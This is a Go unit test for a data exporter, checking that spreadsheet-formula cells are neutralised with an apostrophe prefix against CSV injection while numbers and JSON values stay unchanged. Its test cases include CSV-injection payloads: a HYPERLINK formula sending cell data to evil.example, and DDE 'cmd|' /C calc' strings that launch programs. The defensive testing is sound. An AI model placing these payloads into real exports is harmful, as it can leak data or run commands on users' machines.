package export

import (
	"encoding/csv"
	"strings"
	"testing"
)

// TestCSVNeutralisesFormulas: a cell that begins with =, +, -, @, a tab
// or a CR reaches the CSV as text ('-prefixed and quoted, OWASP's advice
// against CSV injection), plain numbers stay numbers, and the JSON twin
// keeps every value unchanged.
func TestCSVNeutralisesFormulas(t *testing.T) {
	cases := []struct {
		value any
		cell  string // as a CSV reader returns it
	}{
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{[]byte("=1+1"), "'=1+1"},
		{"-", "'-"},
		{"+49 151 1234567", "'+49 151 1234567"},
		{"-12.5", "-12.5"},
		{"+4915112345", "+4915112345"},
		{int64(-7), "-7"},
		{float64(-2.5e-7), "-2.5e-07"},
		{"ada@example.com", "ada@example.com"},
		{"a = b", "a = b"},
		{"", ""},
	}
	vals := make([]any, len(cases))
	cols := make([]string, len(cases))
	for i, c := range cases {
		vals[i], cols[i] = c.value, "c"+strings.Repeat("x", i)
	}
	e := newRowEncoder(cols, nil)
	js, line := e.row(vals)
	rec, err := csv.NewReader(strings.NewReader(string(line))).Read()
	if err != nil {
		t.Fatalf("CSV %q: %v", line, err)
	}
	for i, c := range cases {
		if rec[i] != c.cell {
			t.Errorf("%q: CSV cell %q, want %q", c.value, rec[i], c.cell)
		}
	}
	for _, want := range []string{`"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"`, `"-2+3+cmd|' /C calc'!A0"`, `"\t=1+1"`} {
		if !strings.Contains(string(js), want) {
			t.Errorf("JSON %s lacks the value %s unchanged", js, want)
		}
	}
}
